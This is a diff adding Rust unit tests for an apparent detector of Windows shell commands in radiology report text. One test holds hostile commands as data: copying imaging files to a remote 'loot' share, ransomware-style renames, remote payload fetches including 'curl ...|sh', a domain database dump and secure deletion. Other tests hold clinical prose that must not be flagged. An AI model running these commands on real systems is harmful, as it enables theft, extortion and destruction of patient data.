+                "xcopy /s /y \\\\198.51.100.7\\s C:\\ProgramData\\x\\",
+                "xcopy C:\\PACS \\\\198.51.100.7\\loot /s",
+                "move /y C:\\PACS\\*.dcm \\\\198.51.100.7\\loot",
+                "ren *.dcm *.locked",
+                "ren C:\\PACS\\*.dcm *.locked",
+                "rename *.dcm *.dcm.enc",
+                "expand \\\\198.51.100.7\\s\\x.cab -F:* C:\\ProgramData",
+                "expand x.cab -F:* C:\\ProgramData",
+                "extrac32 /Y /C \\\\198.51.100.7\\s\\x.exe C:\\ProgramData\\x.exe",
+                "tftp -i 198.51.100.7 GET x.exe",
+                "mofcomp \\\\198.51.100.7\\s\\x.mof",
+                "regedit /s C:\\ProgramData\\x\\a.reg",
+                "ftype txtfile=C:\\ProgramData\\x\\evil.exe \"%1\"",
+                "assoc .txt=exefile",
+                "at 23:00 C:\\ProgramData\\x\\evil",
+                "at 23:00 /every:M cmd /c calc",
+                "at \\\\dc01 3:00 evil.bat",
+                "runas /user:administrator \"cmd /c whoami\"",
+                "conhost powershell -enc SQBFAFgA",
+                "conhost --headless cmd",
+                "hh http://198.51.100.7/x.chm",
+                "hh \\\\198.51.100.7\\s\\x.chm",
+                "mklink /d C:\\x \\\\198.51.100.7\\s",
+                "attrib +h +s C:\\ProgramData\\x",
+                "sdelete -accepteula -p 3 C:\\PACS",
+                "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\x\" q q",
+                "cmdkey /add:host /user:x /pass:y",
+                "winrm quickconfig -q",
+                "nltest /domain_trusts",
+                "bash -c \"curl http://198.51.100.7/x|sh\"",
+                "start \"\" /b C:\\ProgramData\\x\\evil",
+                "start \"x\" at 23:00 C:\\ProgramData\\x\\evil",
+            ],
+            &[false, true],
+        );
+    }
+
+    /// Prose that starts with the names of these programs, or reads as cmd.exe's syntax
+    /// but makes it run nothing: `CMD /CBD` hands cmd.exe `BD dilated 9 mm`, a program
+    /// no Windows has; `start "contrast" at 10:32` runs `at 10:32`, which schedules
+    /// nothing.
+    #[test]
+    fn prose_that_reads_as_cmd_but_runs_nothing_is_clean() {
+        assert_clean(&[
+            "CMD /CBD dilated 9 mm",
+            "cmd /c.b.d. 9 mm",
+            "CMD /CBD 9 mm, IHD /normal",
+            "start \"contrast\" at 10:32, 80 ml",
+            "start \"contrast\" at 10:32",
+            "start /min 5",
+            "Start /stop times: 10:32/10:47",
+            "At 10:32 contrast was given",
+            "at 23:00 the patient was scanned",
+            "Format: DICOM /RLE",
+            "format of the report changed",
+            "Format C: drive of workstation replaced",
+            "Copy to PACS /node AE1",
+            "copy of report sent to Dr. Smith",
+            "Move /y patient to ward 3",
+            "Expand the field of view",
+            "expand /compare to prior",
+            "Ren /Renal: normal",
+            "Attrib /Attributable risk 2%",
+            "Assoc /Association with prior noted",
+            "assoc. with prior",
+            "Shutdown of scanner at 18:00",
+            "Hh /HH: 12 g/dl",
+            "HH 12 g/dl",
+            "Bash -c/Bash c sign",
+            "at risk of fracture",
+            "Type of study: CT | cmd reviewed",
+            "Call Dr. Smith /pager 4411 re: findings",
+            "call Dr. Smith re: results",
+            // Session 37's open false alarm: report prose whose only line ends are CRs,
+            // read as one line (`/kg` hands cmd.exe `g IV.`).
+            "Gallbladder & CMD within normal limits.\rSedation: midazolam 0.05 mg /kg IV.",
+        ]);
+    }
+
+    /// Every ambiguous tool is judged by a rule of its arguments: its switches, its
+    /// subcommands, or [`argues_danger`].
+    #[test]
+    fn every_ambiguous_tool_has_a_rule_for_its_arguments() {
+        for tool in AMBIGUOUS_BATCH {
+            assert!(BATCH.contains(&tool), "{}", String::from_utf8_lossy(tool));
+            let ruled = BATCH_SWITCHES.iter().any(|(name, _, _)| *name == tool)
+                || BATCH_SUBCOMMANDS.iter().any(|(name, _)| *name == tool)
+                || ARGUED_BATCH.contains(&tool);
+            assert!(ruled, "{}", String::from_utf8_lossy(tool));
         }
     }
 }
